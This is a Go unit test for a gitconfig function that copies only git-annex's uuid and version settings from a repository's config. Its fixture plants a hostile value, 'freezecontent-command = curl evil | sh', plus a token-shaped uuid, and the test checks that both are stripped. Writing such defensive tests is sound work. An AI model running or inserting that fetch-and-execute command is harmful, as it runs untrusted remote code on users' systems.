package gitconfig

import (
	"strings"
	"testing"
)

// git-annex's uuid and version cross, as git annex init writes them, so
// git annex inside finds the repository initialized; nothing else of
// its section does (a command, a value of another shape).
func TestRepositoryCopyAnnex(t *testing.T) {
	config := "[annex]\n\tuuid = 5f3c9a1e-0b7d-4c2a-9e61-2d4f8b7a3c10\n\tversion = 10\n" +
		"\tfreezecontent-command = curl evil | sh\n\tbackend = SHA256E\n" +
		"[annex \"x\"]\n\tuuid = 5f3c9a1e-0b7d-4c2a-9e61-2d4f8b7a3c11\n"
	got := string(RepositoryCopy([]byte(config)))
	for _, want := range []string{`uuid = "5f3c9a1e-0b7d-4c2a-9e61-2d4f8b7a3c10"`, `version = "10"`} {
		if !strings.Contains(got, want) {
			t.Errorf("the copy lacks %q:\n%s", want, got)
		}
	}
	for _, not := range []string{"curl", "backend", "3c11"} {
		if strings.Contains(got, not) {
			t.Errorf("the copy holds %q:\n%s", not, got)
		}
	}
	for _, bad := range []string{"uuid = ghp_5f3c9a1e0b7d4c2a9e612d4f8b7a3c10xyz", "uuid = 5F3C9A1E-0B7D-4C2A-9E61-2D4F8B7A3C10", "version = 10abc", "version = 123"} {
		if got := string(RepositoryCopy([]byte("[annex]\n\t" + bad + "\n"))); strings.Contains(got, "=") {
			t.Errorf("%q crossed:\n%s", bad, got)
		}
	}
}
